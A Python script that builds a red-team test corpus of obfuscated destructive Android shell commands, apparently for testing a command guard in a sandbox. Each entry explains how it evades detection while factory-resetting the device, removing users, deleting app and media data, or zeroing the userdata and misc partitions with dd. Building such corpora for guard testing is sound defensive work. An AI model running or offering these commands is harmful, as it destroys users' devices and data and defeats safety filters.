#!/usr/bin/env python3
"""Round 8, attacker C (Android routes): the corpus as Python data.

Writes corpus.jsonl (every line proven by prove.py in the tests/sandbox jail) and unprovable.jsonl
(harmful on a phone, not judged by the sandbox). The command text never goes through a host shell.
Also checks that no cmd repeats a line of the earlier corpora (tests/guard/**, attack/r[2-7]*).
"""
import glob
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
R = []
U = []


def add(family, cmd, note, shells=None, why=None):
    d = {"family": family, "cmd": cmd, "note": note}
    if shells:
        d["shells"] = shells
        d["shells_why"] = why
    R.append(d)


def unprovable(family, cmd, note, why):
    U.append({"family": family, "cmd": cmd, "note": note, "why": why})


# --- settings-fragment: the reset screen as a fragment of the Settings activity ----------------------
add("settings-fragment",
    "am start -n com.android.settings/.Settings --es :settings:show_fragment com.android.settings.MasterClear",
    "Starts the ordinary Settings main activity with the extra `:settings:show_fragment` naming the MasterClear "
    "fragment (SettingsActivity.EXTRA_SHOW_FRAGMENT, accepted when the fragment is in SettingsGateway's entry list): "
    "the factory-reset screen, with no FactoryResetActivity and no reset action in the command.")
add("settings-fragment",
    "cmd activity start-activity -n com.android.settings/.Settings -e :settings:show_fragment com.android.settings.MasterClear",
    "The same fragment route through `cmd activity` with am's short `-e` (string extra) instead of `--es`.")
add("settings-fragment",
    "am start -n com.android.settings/.Settings --es :android:show_fragment com.android.settings.MasterClear",
    "PreferenceActivity's own extra `:android:show_fragment` (EXTRA_SHOW_FRAGMENT of the framework class Settings "
    "was built on): the MasterClear fragment, the reset screen.")
add("settings-fragment",
    "am start 'intent:#Intent;component=com.android.settings/.Settings;S.%3Asettings%3Ashow_fragment=com.android.settings.Master%43lear;end'",
    "The fragment extra carried by an intent URI: `S.` string extra whose key (`%3A` colons) and value (`%43` C) "
    "are percent-encoded; parseUri decodes both. The component is the harmless Settings main activity.")

# --- flag-before-uri: am flags that take no argument, before the intent -----------------------------
add("flag-before-uri",
    "am broadcast --receiver-foreground 'intent:#Intent;action=android.intent.action.FACTORY%5FRESET;package=android;end'",
    "`--receiver-foreground` is a flag with no value (FLAG_RECEIVER_FOREGROUND); a reader that takes it for an "
    "option with an argument swallows the URI as its value. am parses the URI as the intent: FACTORY_RESET to "
    "android's MasterClearReceiver.")
add("flag-before-uri",
    "cmd activity broadcast --include-stopped-packages android/com.android.server.MasterClearReceiver",
    "`--include-stopped-packages` takes no value, so the next word is am's positional component: an explicit "
    "broadcast to MasterClearReceiver, which wipes.")
add("flag-before-uri",
    "am start --activity-clear-task 'intent:#Intent;component=com.android.settings/.Settings%24%46actoryResetActivity;end'",
    "`--activity-clear-task` (a launch flag, no value) before an intent URI naming Settings$FactoryResetActivity "
    "(`$` and F percent-encoded).")
add("flag-before-uri",
    "am broadcast --allow-background-activity-starts android/com.android.server.MasterClearReceiver",
    "`--allow-background-activity-starts` is a no-value flag; the word after it is the positional component "
    "MasterClearReceiver: factory reset.")

# --- cmd-start: `start`, ActivityManagerShellCommand's alias of start-activity ----------------------
add("cmd-start",
    "cmd activity start -W -n 'com.android.settings/.Settings$FactoryResetActivity'",
    "`cmd activity start` is the same command as `start-activity` (`case \"start\": case \"start-activity\"`); "
    "earlier corpora only used `am start` and `cmd activity start-activity`. Opens the factory-reset activity.")
add("cmd-start",
    "cmd activity start 'intent:#Intent;action=android.intent.action.VIEW;component=com.android.settings/.Settings%24Factory%52esetActivity;end'",
    "`cmd activity start` with an intent URI whose explicit component is Settings$FactoryResetActivity "
    "(`$` and R encoded) behind a VIEW action.")

# --- start-in-vsync: ActivityManagerShellCommand's vsync-timed start --------------------------------------
add("start-in-vsync",
    "am start-in-vsync -n 'com.android.settings/.Settings$FactoryResetActivity'",
    "`start-in-vsync` (Android 12+) runs runStartActivity from a Choreographer frame callback: the same intent "
    "options as start-activity, under a verb no corpus used. Opens the factory-reset activity.")
add("start-in-vsync",
    "cmd activity start-in-vsync -W 'intent:#Intent;component=com.android.settings/.Settings%24FactoryResetConfirmActivity;end'",
    "start-in-vsync with an intent URI naming the reset confirmation activity (`$` encoded).")

# --- reset-confirm: Settings$FactoryResetConfirmActivity, the final confirmation screen -----------------------
add("reset-confirm",
    "am start -n 'com.android.settings/.Settings$FactoryResetConfirmActivity'",
    "Settings' second reset activity (Settings.FactoryResetConfirmActivity, Android 12+; MainClear starts it with "
    "the MainClearConfirm fragment): the last screen, whose one button erases the device. Earlier corpora named only "
    "FactoryResetActivity, MainClear and ResetDashboardActivity.")
add("reset-confirm",
    "cmd activity start-activity -W com.android.settings/com.android.settings.Settings\\$FactoryResetConfirmActivity",
    "The confirmation activity as am's positional component (fully qualified class, `$` escaped), through cmd activity.")

# --- stack-start: `am stack start DISPLAY INTENT` ---------------------------------------------------------
add("stack-start",
    "am stack start 0 -n 'com.android.settings/.Settings$FactoryResetActivity'",
    "am's `stack start <DISPLAY_ID> <INTENT>` (Am.runStackStart / ActivityManagerShellCommand.runStack, Android 5-9) "
    "creates a stack on display 0 and starts the intent in it: the factory-reset activity, reached through a "
    "window-management subcommand rather than start/start-activity.")
add("stack-start",
    "am stack start 0 'intent:#Intent;component=com.android.settings/.Settings%24%46actoryResetActivity;end'",
    "`stack start` with the intent as a URI (component percent-encoded): the display id looks like the operand "
    "and the URI like a second argument.")

# --- app-process: new ways to name the launcher and the jar ---------------------------------------------
add("app-process",
    "CLASSPATH=/system/framework/am.jar app_process$(getconf LONG_BIT) /system/bin com.android.commands.am.Am broadcast -p android -a android.intent.action.FACTORY_RESET",
    "The launcher's name is completed on the device: `getconf LONG_BIT` prints 64, so the program is app_process64 "
    "running Am: a FACTORY_RESET broadcast.")
add("app-process",
    "CLASSPATH=/system/framework/pm.jar app_process$(getconf LONG_BIT) / com.android.commands.pm.Pm remove-user 10",
    "app_process64 by `getconf LONG_BIT` running Pm: user 10 and its data removed.")
add("app-process",
    "cd /system/framework && CLASSPATH=pm.jar app_process /system/bin com.android.commands.pm.Pm remove-user 10",
    "A relative CLASSPATH: after `cd /system/framework`, `pm.jar` is Pm's jar (the class path is opened relative to "
    "the working directory). No framework path appears next to app_process.")
add("app-process",
    "cd $ANDROID_ROOT/framework; export CLASSPATH=am.jar; app_process /system/bin com.android.commands.am.Am broadcast 'intent:#Intent;action=android.intent.action.MASTER%5FCLEAR;end'",
    "Relative CLASSPATH exported after a `cd` built from $ANDROID_ROOT; Am sends a MASTER_CLEAR intent URI (`_` encoded).")

# --- prog-locate: the Android program's directory found by new means ---------------------------------------
add("prog-locate",
    "$(type cmd | awk '{print $NF}') testharness enable",
    "The `type` builtin's answer (`cmd is /system/bin/cmd`, mksh: `… a tracked alias for /system/bin/cmd`) cut to "
    "its last word is the program: test-harness mode, which wipes the device. Earlier: which, whence, command -v.")
add("prog-locate",
    "d=${PATH%%:/system/xbin*}; ${d##*:}/pm remove-user 10",
    "The program directory is the PATH entry before /system/xbin (`${PATH%%:/system/xbin*}`, then its last "
    "element): /system/bin/pm removes user 10. Earlier PATH lines only deleted PATH entries.")
add("prog-locate",
    "d=${PATH%%:/system/xbin*}; ${d##*:}/cmd testharness enable",
    "The same PATH-entry route to /system/bin/cmd: test-harness mode.")

# --- user-src: user ids from per-user storage directories not used before --------------------------------
add("user-src",
    "ls /storage/emulated | xargs -n1 pm remove-user",
    "Every directory in /storage/emulated is a user id (0, 10, …): each is removed with its data. Earlier sources "
    "were /data/system/users, /data/user, /data/user_de, /mnt/user, /mnt/pass_through, /data/media.")
add("user-src",
    "for u in /mnt/user/0/emulated/*; do cmd user remove-user ${u##*/}; done",
    "User 0's view of the emulated storage lists one directory per user id; each user is removed.")
add("user-src",
    "for u in /mnt/pass_through/0/emulated/*; do pm remove-user ${u##*/}; done",
    "The pass-through view's per-user directories (/mnt/pass_through/0/emulated/N) as the user-id source.")

# --- user-range: every secondary user by a numeric range --------------------------------------------------
add("user-range",
    "seq 10 20 | xargs -n1 cmd user remove-user",
    "User ids 10..20 generated by `seq`: every secondary user and work profile in that range removed with its data "
    "(ids that do not exist fail harmlessly). No id is written except the range ends.")
add("user-range",
    "seq 10 20 | while read u; do pm remove-user $u; done",
    "The same range consumed by a read loop and `pm remove-user`.")

add("user-range",
    "pm remove-user $(( $(am get-current-user) + 10 ))",
    "The id is computed from the current user: 0 + 10 is the first secondary user or work profile id, removed with "
    "its data. (The sandbox's stub prints no current user; `$(( + 10 ))` is 10 there too.)")

# --- split-count: more than 3 literal packages, never more than 2 per program or verb ------------------------
add("split-count",
    "pm clear com.whatsapp; pm clear com.spotify.music; cmd package clear com.example.app; cmd package clear com.example.other",
    "Four named apps' data cleared, two through `pm` and two through `cmd package`: a reader counting per program "
    "sees two each. HARM.md counts the command: 4 > 3.")
add("split-count",
    "pm uninstall -k --user 0 com.whatsapp && pm uninstall -k --user 0 com.spotify.music && pm uninstall -k --user 0 com.example.app\n# next batch\npm uninstall -k --user 0 com.example.other",
    "Three uninstalls in one and-list, then a comment and a fourth on its own line: 3 per list, 4 in the command.")
add("split-count",
    "cmd package clear com.whatsapp; CLASSPATH=/system/framework/pm.jar app_process /system/bin com.android.commands.pm.Pm clear com.example.app; pm clear com.spotify.music; cmd package clear --user 0 com.example.other",
    "Four clears spread over three spellings of the package manager (cmd package, Pm through app_process, pm).")
add("split-count",
    "pm uninstall com.whatsapp; pm uninstall com.spotify.music; pm clear com.example.app; pm clear com.example.other",
    "Two uninstalls and two clears: per verb 2, together 4 packages' data gone.")

# --- pkglist-path: the device's package list turned into app-data paths ----------------------------------
add("pkglist-path",
    "pm list packages -3 | cut -d: -f2 | while read p; do rm -rf /data/data/$p/databases; done",
    "The package list is used as path components, not as pm arguments: every user app's databases deleted.")
add("pkglist-path",
    "for p in $(cmd package list packages -3); do rm -rf /data/user_de/0/${p#package:}; done",
    "The `package:` lines become /data/user_de/0/<pkg>: every user app's device-encrypted data deleted.")
add("pkglist-path",
    "pm list packages -3 | sed 's,^package:,/data/user/0/,' | xargs rm -rf",
    "sed rewrites `package:` into the /data/user/0/ prefix: every user app's data directory deleted by xargs rm.")
add("pkglist-path",
    "cmd package list packages -3 | cut -c9- | xargs -I{} rm -rf /data/data/{}/shared_prefs /data/data/{}/databases",
    "xargs -I places each listed package into two app-data paths (shared_prefs and databases).")

# --- notation: more than 3 packages written in Android notations no corpus used ---------------------------
add("notation",
    "for f in com.whatsapp_preferences.xml com.spotify.music_preferences.xml com.example.app_preferences.xml com.example.other_preferences.xml; do pm clear ${f%_preferences.xml}; done",
    "Default SharedPreferences file names (`<package>_preferences.xml`); the suffix is cut: 4 apps cleared.")
add("notation",
    "for o in main.1.com.whatsapp.obb main.7.com.spotify.music.obb patch.2.com.example.app.obb main.3.com.example.other.obb; do o=${o#*.*.}; pm uninstall ${o%.obb}; done",
    "OBB expansion file names (`main.<version>.<package>.obb`): the package is the middle. 4 apps uninstalled.")
add("notation",
    "for r in com.whatsapp:id/menu com.spotify.music:id/play com.example.app:id/ok com.example.other:id/go; do cmd package clear ${r%%:*}; done",
    "View resource ids as uiautomator prints them (`<package>:id/<name>`): 4 apps cleared.")
add("notation",
    "for k in '0|com.whatsapp|1|null|10103' '0|com.spotify.music|7|null|10104' '0|com.example.app|2|null|10101' '0|com.example.other|3|null|10102'; do k=${k#*\"|\"}; pm clear ${k%%\"|\"*}; done",
    "StatusBarNotification keys (`user|package|id|tag|uid`, as dumpsys notification prints them): the second "
    "field is the package. 4 apps cleared.")

# --- parent-of-file: a named file's folder is a top-level storage folder --------------------------------------
add("parent-of-file",
    "rm -rf \"$(dirname \"$(dirname \"$(find /sdcard/ -name thesis.pdf)\")\")\"",
    "Looks like removing one document's folder; the file is Download/Papers/thesis.pdf, and two dirnames give "
    "/sdcard/Download: the whole Download folder.")
add("parent-of-file",
    "f=$(find /sdcard/ -path '*Camera*' -name 'IMG_0001.jpg'); rm -rf \"${f%/*/*}\"",
    "One photo found in DCIM/Camera; `${f%/*/*}` strips two levels: /sdcard/DCIM deleted.")
add("parent-of-file",
    "for f in /sdcard/Music/*.mp3; do rm -rf \"${f%/*}\"; break; done",
    "The folder of the first matching song (`${f%/*}`) is /sdcard/Music itself.")

# --- storage-move: top-level folders moved where Android loses them -------------------------------------------
add("storage-move",
    "mv /sdcard/Music /storage/0123-4567",
    "\"Move to the SD card\" at a removable volume's path: with no card mounted it is a new directory on /storage's "
    "tmpfs, and the Music folder leaves the user's storage (gone at reboot).")
add("storage-move",
    "mv /sdcard/Download /storage/sdcard1",
    "The old secondary-storage path /storage/sdcard1 as the destination: Download leaves the storage.")
add("storage-move",
    "mv /sdcard/DCIM \"/sdcard/.trashed-$(date +%s)-DCIM\"",
    "Renamed under MediaStore's trash prefix (`.trashed-<expiry>-<name>`, Android 11+), which reads like a "
    "recoverable trash entry: the DCIM folder is gone from the storage's top level (a hidden dot name).")

# --- app-stash: a top-level folder moved into one app's external data, then that app cleared --------------------
add("app-stash",
    "mv /sdcard/DCIM /sdcard/Android/data/com.example.app/files/ && pm uninstall com.example.app",
    "Looks like one named app's uninstall (ordinary); DCIM was first moved into that app's external files directory, "
    "which uninstall deletes with the app.")
add("app-stash",
    "mv /sdcard/Pictures /sdcard/Android/data/com.example.app/cache/ ; pm clear com.example.app",
    "Pictures moved into one app's external cache directory, then that one app cleared (which empties its "
    "external cache too).")

# --- apk-root: a partition root cut from an APK path the package manager reports -----------------------------------
add("apk-root",
    "a=$(pm path com.google.android.gms); a=${a#package:}; rm -rf \"${a%%/priv-app/*}\"",
    "`pm path` of Play services gives /product/priv-app/…; cutting at /priv-app/ leaves /product: the whole "
    "product partition deleted (earlier apk-path lines deleted APKs or their folders).")
add("apk-root",
    "pm list packages -f -s systemui | sed 's,^package:,,; s,/priv-app/.*,,' | xargs rm -rf",
    "SystemUI's APK path (`-f`, filter `systemui`) cut before /priv-app/: /system_ext, an entry of / and a "
    "system partition, deleted.")


# --- by-name-ls: the block device from `ls -l` of a by-name link ----------------------------------------------
add("by-name-ls",
    "dd if=/dev/zero of=$(ls -l /dev/block/by-name/userdata | awk '{print $NF}') bs=4096 count=1 conv=notrunc",
    "The last field of `ls -l` on the by-name link is its target (/dev/block/mmcblk0p13 here, sdaN on UFS): "
    "userdata's superblock zeroed. Earlier lines used readlink -f or the link itself.")

# --- device-set: package sets computed in ways not used before ------------------------------------------------------
add("device-set",
    "awk 'BEGIN{while((\"pm list packages -3\" | getline l)>0){split(l,a,\":\"); system(\"pm clear \" a[2])}}'",
    "awk reads `pm list packages -3` with a getline pipe and runs `pm clear` per line through system(): every user "
    "app cleared, no shell pipeline or loop in the command.")
add("device-set",
    "APP_ID=com.example.app; pm list packages $APPID | cut -d: -f2 | xargs -n1 pm clear",
    "Reads as \"clear the app matching APP_ID\", but the filter is `$APPID` (unset): pm gets no filter and lists "
    "every package, all cleared.")

add("device-set",
    "for u in $(stat -c %u /data/data/* | sort -u); do pm list packages --uid $u; done | cut -d: -f2 | xargs -n1 pm clear",
    "The owners of the app data directories are the apps' uids (`stat -c %u`); `pm list packages --uid` turns each "
    "back into its package, and all are cleared. (The sandbox's pm ignores --uid and lists all 11.)")
add("by-name-ls",
    "ls -l /dev/block/by-name | awk '$(NF-2)==\"misc\"{print $NF}' | xargs -I{} dd if=/dev/zero of={} count=1 conv=notrunc",
    "The misc partition's device picked from the by-name listing (`NAME -> TARGET`, the name two fields from the "
    "end in toybox and busybox ls): the bootloader control block zeroed.")

# --- unprovable -----------------------------------------------------------------------------------------------------
unprovable("linker",
    "/system/bin/linker64 /system/bin/cmd testharness enable",
    "The dynamic linker runs an executable given as its first argument (Android 10+), so the program word is linker64.",
    "The sandbox has no /system/bin/linker64.")
unprovable("app-process",
    "CLASSPATH=/system/framework/am.jar app_process / com/android/commands/am/Am broadcast android/com.android.server.MasterClearReceiver",
    "app_process converts the class name to slash form for FindClass (toSlashClassName), so a name already in slash "
    "form loads Am too: explicit broadcast to MasterClearReceiver.",
    "tree.calls maps only the dotted class names to am/pm.")
unprovable("service-list",
    "cmd $(cmd -l | grep harness) enable",
    "The service name is taken from the device's service list (`cmd -l` prints testharness).",
    "The cmd stub prints no service list.")
unprovable("launcher-set",
    "cmd package query-activities --brief -a android.intent.action.MAIN -c android.intent.category.LAUNCHER | grep / | cut -d/ -f1 | sort -u | xargs -n1 pm clear",
    "Every app with a launcher icon (resolved activities of MAIN/LAUNCHER) cleared.",
    "The cmd stub prints nothing for query-activities.")
unprovable("settings-fragment",
    "am start -n com.android.settings/.Settings --es :settings:show_fragment com.android.settings.MainClear",
    "Android 11+ name of the reset fragment (MainClear) through the Settings show_fragment extra.",
    "tree.WIPE_PATTERNS has no MainClear.")
unprovable("ui",
    "am start -n 'com.android.settings/.Settings$ResetDashboardActivity' && uiautomator dump /data/local/tmp/u.xml && input tap $(sed 's/.*text=\"Erase all data (factory reset)\"[^>]*bounds=\"\\[\\([0-9]*\\),\\([0-9]*\\)\\].*/\\1 \\2/' /data/local/tmp/u.xml)",
    "Opens the reset dashboard, finds the \"Erase all data\" entry's bounds in a uiautomator dump and taps it.",
    "No UI in the sandbox; the uiautomator stub writes no dump.")
unprovable("disk-id",
    "sm partition $(sm list-disks adoptable) private",
    "Every adoptable disk (SD card) repartitioned as private storage: its contents erased.",
    "The sm stub prints no disk list; the wipe rule needs the disk operand to exist only in the log.")

unprovable("documents-provider",
    "content call --uri content://com.android.externalstorage.documents --method android:deleteDocument --extra uri:s:content://com.android.externalstorage.documents/document/primary%3ADCIM",
    "DocumentsProvider.call's METHOD_DELETE_DOCUMENT on ExternalStorageProvider: the document primary:DCIM is the "
    "whole DCIM folder, deleted by the provider (needs MANAGE_DOCUMENTS, which the shell package holds on the builds "
    "I know of).",
    "The content stub only logs; no file is touched and no wipe word is in the call.")
unprovable("am-to-uri",
    "am start \"$(am to-intent-uri -n 'com.android.settings/.Settings$FactoryResetActivity' | tr -d '\\n')\"",
    "am's own `to-intent-uri` turns options into an intent URI that is then started: the reset screen.",
    "The am stub prints no URI (the proof would rest on the word in the to-intent-uri call, a false proof).")

def main():
    prior = set()
    files = glob.glob("tests/guard/**/*.jsonl", recursive=True)
    files += [f for f in glob.glob("attack/r*/**/*.jsonl", recursive=True) if "/r8c/" not in f]
    for f in files:
        for line in open(f):
            if line.strip():
                try:
                    prior.add(json.loads(line).get("cmd"))
                except json.JSONDecodeError:
                    pass
    dup = [r["cmd"] for r in R + U if r["cmd"] in prior]
    assert not dup, dup
    cmds = [r["cmd"] for r in R]
    assert len(cmds) == len(set(cmds))
    (HERE / "corpus.jsonl").write_text("".join(json.dumps(r) + "\n" for r in R))
    (HERE / "unprovable.jsonl").write_text("".join(json.dumps(r) + "\n" for r in U))
    print(f"corpus.jsonl: {len(R)} lines; unprovable.jsonl: {len(U)}; checked against {len(prior)} earlier lines")


if __name__ == "__main__":
    main()
